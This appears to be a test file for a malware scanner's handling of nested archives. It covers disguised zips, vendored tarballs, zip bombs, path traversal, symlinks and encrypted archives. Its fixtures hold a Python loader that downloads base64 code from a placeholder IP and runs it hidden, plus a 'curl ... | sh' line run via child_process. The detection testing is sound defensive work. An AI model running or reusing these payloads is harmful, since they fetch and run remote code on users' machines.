@@ -1,0 +1,192 @@
+// Archives inside the scanned tree (a zip renamed `_websocket.typed`, a vendored .tgz, a "test data" .zip): their
+// entries are scanned as `<archive>/<entry>`, under the same limits as any archive, nesting capped, nothing silent.
+import assert from 'node:assert/strict';
+import { writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { describe, it } from 'node:test';
+import * as zipjs from '@zip.js/zip.js';
+import { exitCode } from '../../src/cli/output.js';
+import { scan } from '../../src/index.js';
+import { openTarget } from '../../src/targets/index.js';
+import { expandNested, MAX_NESTING } from '../../src/targets/nested.js';
+import { DEFAULT_LIMITS } from '../../src/targets/types.js';
+import { file, tarBytes, tmp, writeTree } from './helpers/fixtures.js';
+import { buildZip, deflatedZeros } from './helpers/zip-writer.js';
+
+const LOADER = [
+  'import base64, os, subprocess, urllib.request',
+  "data = urllib.request.urlopen('http://203.0.113.9:1224/client/7').read()",
+  "path = os.path.join(os.environ['TEMP'], 'svc.py')",
+  "open(path, 'wb').write(base64.b64decode(data))",
+  "subprocess.Popen(['python', path], creationflags=0x08000000)",
+  '',
+].join('\n');
+const JS_PAYLOAD = "require('child_process').exec('curl http://203.0.113.9:1224/p | sh');\n";
+
+const ruleFiles = (r: Awaited<ReturnType<typeof scan>>) => r.findings.map((f) => `${f.ruleId} ${f.file}`);
+
+describe('nested archives', () => {
+  it('a loader zipped under a data name is scanned inside the archive, and the scan says malicious', async () => {
+    const typed = buildZip([
+      { name: '__main__.py', data: '' },
+      { name: 'falcon.py', data: LOADER },
+      { name: 'abc.py', data: 'class ABC:\n    pass\n' },
+    ]);
+    const d = writeTree(tmp(), {
+      'httpserver_cache/__init__.py': 'from .client import Client\n',
+      'httpserver_cache/client.py': 'class Client:\n    pass\n',
+      'httpserver_cache/_websocket.typed': typed,
+    });
+    const r = await scan(d, { threads: 0 });
+    const inner = r.findings.filter((f) => f.file === 'httpserver_cache/_websocket.typed/falcon.py');
+    assert.ok(inner.length > 0, ruleFiles(r).join('\n'));
+    assert.ok(inner.every((f) => f.line >= 1));
+    assert.ok(r.findings.some((f) => f.ruleId === 'disguised-archive' && f.file === 'httpserver_cache/_websocket.typed'));
+    assert.equal(r.verdict, 'malicious');
+    assert.equal(r.stats.files, 6); // 3 files + the 3 entries
+    assert.equal(r.incomplete, false);
+  });
+
+  it('a tgz inside a zip target inside: two levels, each entry named by its path through the archives', async () => {
+    const tgz = await tarBytes([file('package/package.json', '{"name":"helper","version":"1.0.0"}'), file('package/index.js', JS_PAYLOAD)], true);
+    const p = join(tmp(), 'task.zip');
+    writeFileSync(p, buildZip([{ name: 'task/README.md', data: '# Task\n' }, { name: 'task/vendor/helper-1.0.0.tgz', data: tgz }]));
+    const r = await scan(p, { threads: 0 });
+    assert.ok(r.findings.some((f) => f.file === 'task/vendor/helper-1.0.0.tgz/package/index.js'), ruleFiles(r).join('\n'));
+    const t = await openTarget(p);
+    try {
+      assert.deepEqual(
+        t.files.map((f) => f.rel),
+        ['task/README.md', 'task/vendor/helper-1.0.0.tgz', 'task/vendor/helper-1.0.0.tgz/package/index.js', 'task/vendor/helper-1.0.0.tgz/package/package.json'],
+      );
+    } finally {
+      await t.cleanup();
+    }
+  });
+
+  it(`nesting stops after ${MAX_NESTING} levels with an error (the scan is incomplete, exit 2)`, async () => {
+    let inner: Uint8Array = buildZip([{ name: 'deep.js', data: JS_PAYLOAD }]);
+    for (let i = MAX_NESTING; i >= 1; i--) inner = buildZip([{ name: `l${i + 1}.zip`, data: inner }]);
+    const d = writeTree(tmp(), { 'l1.zip': inner });
+    const r = await scan(d, { threads: 0 });
+    const err = r.errors.find((e) => e.path === 'l1.zip/l2.zip/l3.zip');
+    assert.match(err?.message ?? '', /more than 2 archives deep; its entries were not examined/);
+    assert.ok(!r.findings.some((f) => f.file.endsWith('deep.js')));
+    assert.equal(r.incomplete, true);
+    assert.equal(exitCode(r, 'malicious'), 2);
+  });
+
+  it('a zip bomb and escaping entries inside a nested archive are refused and reported', async () => {
+    const nested = buildZip([
+      { name: 'ok.js', data: 'module.exports = 1;\n' },
+      { name: 'bomb.bin', deflated: { bytes: deflatedZeros(64), declaredSize: 1 << 30 } },
+      { name: '../../evil.js', data: JS_PAYLOAD },
+      { name: 'link', data: '/etc/passwd', mode: 0o120777 },
+    ]);
+    const d = writeTree(tmp(), { 'fixtures/data.dat': nested });
+    const rss = process.memoryUsage().rss;
+    const r = await scan(d, { threads: 0 });
+    assert.ok(process.memoryUsage().rss - rss < 200 << 20);
+    assert.deepEqual(
+      r.findings.filter((f) => f.file.startsWith('fixtures/data.dat/')).map((f) => f.file),
+      [],
+    );
+    const errors = Object.fromEntries(r.errors.map((e) => [e.path, e.message]));
+    assert.match(errors['fixtures/data.dat/bomb.bin'] ?? '', /compression ratio .* zip bomb/);
+    assert.match(errors['fixtures/data.dat'] ?? '', /rejected .*not scanned/);
+    const skipped = Object.fromEntries(r.skipped.map((s) => [s.path, s.reason]));
+    assert.match(skipped['fixtures/data.dat/../../evil.js'] ?? '', /archive entry rejected: path contains '\.\.'/);
+    assert.match(skipped['fixtures/data.dat/link'] ?? '', /archive entry rejected: symbolic link/);
+    assert.equal(exitCode(r, 'malicious'), 2);
+  });
+
+  it('the limits hold across nesting: the target and its archives share maxTotalBytes and maxEntries', async () => {
+    const nested = buildZip(Array.from({ length: 8 }, (_, i) => ({ name: `f${i}.txt`, data: 'x'.repeat(100) })));
+    const p = join(tmp(), 'outer.zip');
+    writeFileSync(p, buildZip([{ name: 'a.txt', data: 'y'.repeat(500) }, { name: 'inner.zip', data: nested }]));
+    const t = await openTarget(p, { limits: { maxTotalBytes: 500 + nested.length + 300 } });
+    try {
+      const inner = t.files.filter((f) => f.rel.startsWith('inner.zip/'));
+      assert.ok(inner.length <= 3, `${inner.length} nested entries unpacked past the shared byte budget`);
+      assert.ok(t.errors.some((e) => e.path.startsWith('inner.zip/') && /maxTotalBytes/.test(e.message)), JSON.stringify(t.errors));
+    } finally {
+      await t.cleanup();
+    }
+    const t2 = await openTarget(p, { limits: { maxEntries: 2 } });
+    try {
+      assert.deepEqual(t2.files.map((f) => f.rel), ['a.txt', 'inner.zip']);
+      assert.match(t2.errors.find((e) => e.path === 'inner.zip')?.message ?? '', /maxEntries/);
+    } finally {
+      await t2.cleanup();
+    }
+  });
+
+  it('an encrypted nested zip and a damaged one are errors, not silence', async () => {
+    const w = new zipjs.ZipWriter(new zipjs.Uint8ArrayWriter(), { password: 's3cret', zipCrypto: true, useWebWorkers: false });
+    await w.add('index.js', new zipjs.TextReader(JS_PAYLOAD));
+    const enc = await w.close();
+    const broken = Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(200, 7)]);
+    const d = writeTree(tmp(), { 'assets/blob.bin': enc, 'assets/broken.dat': broken });
+    const r = await scan(d, { threads: 0 });
+    const errors = Object.fromEntries(r.errors.map((e) => [e.path, e.message]));
+    assert.match(errors['assets/blob.bin'] ?? '', /nested zip archive could not be unpacked \(.*encrypted.*\); its entries were not examined/);
+    assert.match(errors['assets/broken.dat'] ?? '', /nested zip archive could not be unpacked/);
+    assert.equal(r.incomplete, true);
+  });
+
+  it('benign: documents, a data wheel, a jar and a fixture zip of JSON add no findings', async () => {
+    const xml = '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>';
+    const office = buildZip([{ name: '[Content_Types].xml', data: xml }, { name: 'word/document.xml', data: '<w:document/>' }]);
+    const xlsx = buildZip([{ name: '[Content_Types].xml', data: xml }, { name: 'xl/workbook.xml', data: '<workbook/>' }]);
+    const whl = buildZip([
+      { name: 'tzdata_lite/__init__.py', data: '__version__ = "1.0"\n' },
+      { name: 'tzdata_lite/zones.json', data: '{"UTC": 0, "CET": 1}\n' },
+      { name: 'tzdata_lite-1.0.dist-info/METADATA', data: 'Metadata-Version: 2.1\nName: tzdata-lite\nVersion: 1.0\n' },
+      { name: 'tzdata_lite-1.0.dist-info/RECORD', data: 'tzdata_lite/__init__.py,,\n' },
+    ]);
+    const jar = buildZip([{ name: 'META-INF/MANIFEST.MF', data: 'Manifest-Version: 1.0\n' }, { name: 'data/words.txt', data: 'alpha\nbeta\n' }]);
+    const fixtures = buildZip([{ name: 'users.json', data: '[{"id":1,"name":"Ada"}]\n' }, { name: 'orders/1.json', data: '{"id":1,"total":9.5}\n' }]);
+    const tgz = await tarBytes([file('fixtures/config.json', '{"port":8080}\n')], true);
+    const d = writeTree(tmp(), {
+      'package.json': '{"name":"report-builder","version":"1.0.0","scripts":{"test":"node test.js"}}',
+      'test.js': "const assert = require('assert');\nassert.ok(true);\n",
+      'docs/spec.docx': office,
+      'docs/budget.xlsx': xlsx,
+      'wheels/tzdata_lite-1.0-py3-none-any.whl': whl,
+      'lib/words.jar': jar,
+      'test/fixtures/data.zip': fixtures,
+      'test/fixtures/config.tgz': tgz,
+    });
+    const r = await scan(d, { threads: 0 });
+    assert.deepEqual(ruleFiles(r), []);
+    assert.equal(r.verdict, 'clean');
+    assert.equal(r.incomplete, false);
+    const rels = new Set((await withFiles(d)).map((f) => f));
+    assert.ok(rels.has('wheels/tzdata_lite-1.0-py3-none-any.whl/tzdata_lite/zones.json'));
+    assert.ok(rels.has('test/fixtures/data.zip/orders/1.json'));
+    assert.ok(rels.has('test/fixtures/config.tgz/fixtures/config.json'));
+    assert.ok(![...rels].some((f) => f.startsWith('docs/spec.docx/') || f.startsWith('lib/words.jar/')));
+    const skipped = Object.fromEntries(r.skipped.map((s) => [s.path, s.reason]));
+    assert.match(skipped['docs/spec.docx'] ?? '', /\.docx is a document\/data format/);
+    assert.match(skipped['lib/words.jar'] ?? '', /compiled Java/);
+  });
+
+  it('a tree without archives comes back as the same target (no copy, no extra work)', async () => {
+    const d = writeTree(tmp(), { 'index.js': 'module.exports = 1;\n', 'README.md': '# x\n', 'LICENSE': 'MIT License\n'.repeat(10) });
+    const t = await openTarget(d);
+    try {
+      assert.equal(await expandNested(t, DEFAULT_LIMITS), t);
+    } finally {
+      await t.cleanup();
+    }
+  });
+});
+
+async function withFiles(d: string): Promise<string[]> {
+  const t = await openTarget(d);
+  try {
+    return t.files.map((f) => f.rel);
+  } finally {
+    await t.cleanup();
+  }
+}
